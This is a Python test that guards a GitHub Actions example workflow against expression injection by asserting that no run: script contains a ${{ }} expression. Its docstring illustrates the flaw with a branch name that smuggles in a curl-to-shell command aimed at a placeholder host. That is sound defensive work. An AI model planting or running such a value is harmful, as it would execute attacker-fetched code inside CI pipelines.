"""The CI examples paste no expression into a shell script: ``${{ github.head_ref }}`` in a
``run:`` block is expanded before the shell parses it, so a branch named ``x";curl evil|sh;"``
runs as code (expression injection). Values reach the script through ``env:`` instead."""

from __future__ import annotations

from pathlib import Path

import yaml

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "ci" / "github-actions.yml"


def test_no_expression_is_pasted_into_a_run_script() -> None:
    workflow = yaml.safe_load(EXAMPLE.read_text())
    steps = [step for job in workflow["jobs"].values() for step in job["steps"]]
    scripts = [step["run"] for step in steps if "run" in step]
    assert scripts, "the example runs no script: this test checks nothing"
    pasted = [line for script in scripts for line in script.splitlines() if "${{" in line]
    assert pasted == [], f"expressions pasted into run scripts: {pasted}"
